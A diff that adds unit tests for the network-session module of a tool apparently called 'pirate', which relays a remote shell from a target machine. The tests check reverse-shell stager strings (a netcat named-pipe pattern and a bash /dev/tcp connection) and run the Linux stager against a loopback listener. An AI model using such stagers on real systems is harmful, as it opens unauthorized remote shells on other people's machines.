@@ -0,0 +1,161 @@
+import os
+import shutil
+import socket
+import subprocess
+import tempfile
+import threading
+import unittest
+from unittest.mock import MagicMock, patch
+
+from pirate.lib.config import Config
+from pirate.lib.logger import Logger
+from pirate.lib.network_session import NetworkSession
+
+
+class TestNetworkSession(unittest.TestCase):
+    def setUp(self):
+        Logger.setup(Logger.INFO)
+        Logger._logger.handlers.clear()  # Silence std logs
+        Config.load("/nonexistent.cfg")
+
+        # Loopback stands in for the USB network link
+        self.session = NetworkSession(address="127.0.0.1", port=0)
+        self.in_r, self.in_w = os.pipe()
+        self.out_r, self.out_w = os.pipe()
+
+    def tearDown(self):
+        self.session.close()
+        for fd in (self.in_r, self.in_w, self.out_r):
+            os.close(fd)
+
+    def _relay(self, timeout=5.0):
+        """Run the session relay on pipes and return (ran, output)."""
+
+        try:
+            ran = self.session.stdio(
+                timeout=timeout,
+                in_fd=self.in_r,
+                out_fd=self.out_w,
+                manage_tty=False,
+                install_sigint_handler=False,
+            )
+        finally:
+            os.close(self.out_w)
+
+        out = b""
+        while chunk := os.read(self.out_r, 4096):
+            out += chunk
+        return ran, out
+
+    def _target(self, script):
+        """Connect to the session as the target and run `script(sock)` on a thread."""
+
+        _, port = self.session.listen()
+
+        def run():
+            with socket.create_connection(("127.0.0.1", port)) as sock:
+                script(sock)
+
+        thread = threading.Thread(target=run)
+        thread.start()
+        return thread
+
+    def test_relays_until_done_marker(self):
+        received = []
+
+        def target(sock):
+            sock.sendall(b"$ ")
+            received.append(sock.recv(64))
+            sock.sendall(b"total 0\r\n__PIRATE_DONE__\r\n")
+
+        on_ready = MagicMock()
+        self.session.on_ready = on_ready
+        thread = self._target(target)
+        os.write(self.in_w, b"ls -la\n")
+
+        ran, out = self._relay()
+        thread.join()
+
+        self.assertTrue(ran)
+        self.assertEqual(received, [b"ls -la\n"])
+        self.assertTrue(out.startswith(b"$ total 0\r\n__PIRATE_DONE__"))
+        on_ready.assert_called_once()
+
+    def test_ends_when_target_disconnects(self):
+        thread = self._target(lambda sock: sock.sendall(b"bye\r\n"))
+
+        ran, out = self._relay()
+        thread.join()
+
+        self.assertTrue(ran)
+        self.assertEqual(out, b"bye\r\n")
+
+    def test_detach_closes_connection(self):
+        closed = threading.Event()
+
+        def target(sock):
+            sock.settimeout(5)
+            self.assertEqual(sock.recv(64), b"")  # Closed by the relay after the local detach
+            closed.set()
+
+        thread = self._target(target)
+        os.write(self.in_w, b"\x1d")
+
+        ran, _ = self._relay()
+        thread.join()
+
+        self.assertTrue(ran)
+        self.assertTrue(closed.is_set())
+
+    def test_times_out_without_target(self):
+        ran, out = self._relay(timeout=0.05)
+
+        self.assertFalse(ran)
+        self.assertEqual(out, b"")
+
+    def test_available(self):
+        self.assertFalse(self.session.available())  # Disabled in config
+
+        with patch("pirate.lib.network_session.Config.get", return_value=True):
+            with patch("pirate.lib.network_session.Path.read_text", return_value="up\n"):
+                self.assertTrue(self.session.available())
+            with patch("pirate.lib.network_session.Path.read_text", side_effect=FileNotFoundError):
+                self.assertFalse(self.session.available())
+
+    def test_stager_platforms(self):
+        self.assertIn("|nc 127.0.0.1 0 >$f", self.session.stager("macos"))
+        self.assertIn("/dev/tcp/127.0.0.1/0", self.session.stager("linux"))
+
+        with self.assertRaises(ValueError):
+            self.session.stager("windows")
+
+    @unittest.skipUnless(shutil.which("bash"), "bash not installed")
+    def test_linux_stager_runs_shell(self):
+        self.session.listen()
+
+        with tempfile.TemporaryDirectory() as tmp:
+            # Stand-in ping, so the link check passes without raw sockets
+            ping = os.path.join(tmp, "ping")
+            with open(ping, "w", encoding="utf-8") as f:
+                f.write("#!/bin/sh\nexit 0\n")
+            os.chmod(ping, 0o755)  # noqa: S103
+
+            env = {**os.environ, "PATH": f"{tmp}:{os.environ['PATH']}", "PS1": ""}
+            shell = subprocess.Popen(  # noqa: S603
+                ["bash", "--norc", "-c", self.session.stager("linux")],  # noqa: S607
+                env=env,
+                stdin=subprocess.DEVNULL,
+                stdout=subprocess.DEVNULL,
+                stderr=subprocess.DEVNULL,
+            )
+
+            try:
+                os.write(self.in_w, b"echo $(( 6 * 7 ))\nexit\n")
+                ran, out = self._relay()
+                self.assertEqual(shell.wait(timeout=5), 0)
+            finally:
+                shell.kill()
+
+        self.assertTrue(ran)
+        self.assertIn(b"42", out)
+        self.assertIn(b"__PIRATE_DONE__", out)